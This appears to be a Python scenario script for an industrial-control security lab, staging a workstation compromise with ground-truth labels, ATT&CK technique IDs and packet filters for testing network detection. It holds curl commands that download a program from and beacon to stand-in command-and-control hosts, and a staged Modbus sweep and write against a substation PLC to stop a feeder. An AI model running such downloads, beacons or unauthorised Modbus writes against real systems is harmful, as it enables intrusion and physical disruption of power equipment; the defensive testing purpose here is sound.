"""A workstation is taken over by a download and used against the substation directly: no stepping stone, little to see.

    c2 ◀──https── ws2 (office) ──Modbus──▶ plc2 (substation)

The connection that controls the workstation is opened by the workstation. No tap sees the office's traffic with the
control centre, so what the sensors have is the border and, at the other end, the substation.
"""

import time

from lab import network, truth as record

DESCRIPTION = ("A workstation in the office downloads a program, is controlled by HTTPS connections that it opens itself, and "
               "stops a feeder by Modbus from the office network, where no Modbus client should be.")

C2, WS2, PLC2 = "203.0.113.99", network.addresses("ws2")[0], network.addresses("plc2")[0]


def play(lab, people, truth):
    def technique(domain, tactic, id):
        return {"id": id, "tactic": tactic, "domain": domain}

    def beacon():
        lab.must("ws2", ["curl", "-4", "-sk", "-m", "5", "-o", "/dev/null", "-A", "WinHTTP/1.0",
                         "https://cdn-metrics.example/api/tasks"])

    time.sleep(15)
    with truth.stage(
            "download", "A program is downloaded from an address without a name", source=[WS2], destination=[C2],
            protocol="http", ports=[80], taps=["border"],
            techniques=[technique("enterprise", "command-and-control", "T1105"),
                        technique("enterprise", "execution", "T1204.002")],
            evidence=f"ip.src == {WS2} && ip.dst == {C2} && http.request",
            expect="program from a bare address, and a listed one"):
        lab.must("ws2", ["curl", "-s", "-m", "10", "-o", "/dev/null", "-A", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                         f"http://{C2}/files/update-4.2.1.bin"])
    with truth.stage(
            "beacon", "HTTPS beacon every 3 s", source=[WS2], destination=[C2], protocol="tls", ports=[443], taps=["border"],
            techniques=[technique("enterprise", "command-and-control", "T1071.001")],
            evidence=f"ip.src == {WS2} && ip.dst == {C2} && tls.handshake.type == 1",
            expect="listed address and domain; regular"):
        for _ in range(8):
            beacon()
            time.sleep(3)
    for id, what, techniques, functions, expect in (
            ("modbus-read", "sweep", [technique("ics", "collection", "T0861")], "{1, 2, 3, 4}",
             "Modbus client in the office network reads everything"),
            ("modbus-write", "write", [technique("ics", "impair-process-control", "T0855"),
                                       technique("ics", "impair-process-control", "T0836")], "{5, 6, 15, 16, 22}",
             "writes from a host that is not the HMI, across zones")):
        with truth.stage(
                id, f"Modbus from the office: {what}", source=[WS2], destination=[PLC2], protocol="modbus", ports=[502],
                taps=["substation"], techniques=techniques,
                evidence=f"ip.src == {WS2} && ip.dst == {PLC2} && modbus.func_code in {functions}", expect=expect):
            lab.must("ws2", ["/usr/bin/python3", f"{lab.programs}/intruder.py", what, PLC2])
        beacon()  # tells the result
        time.sleep(4)
    truth.hop(C2, WS2, 443, "tls", "beacon", "border", opened_by="to")
    truth.hop(WS2, PLC2, 502, "modbus", "modbus-write", "substation")
    truth.notes.append("two more connections to the C2 follow the Modbus stages, outside of the beacon's stage")


def write(folder):
    record.reputation(folder, [("domain", "cdn-metrics.example", 90, "example list of the recorded phish"),
                               ("ipv4", "203.0.113.96/28", 80, "example list of the recorded phish")])
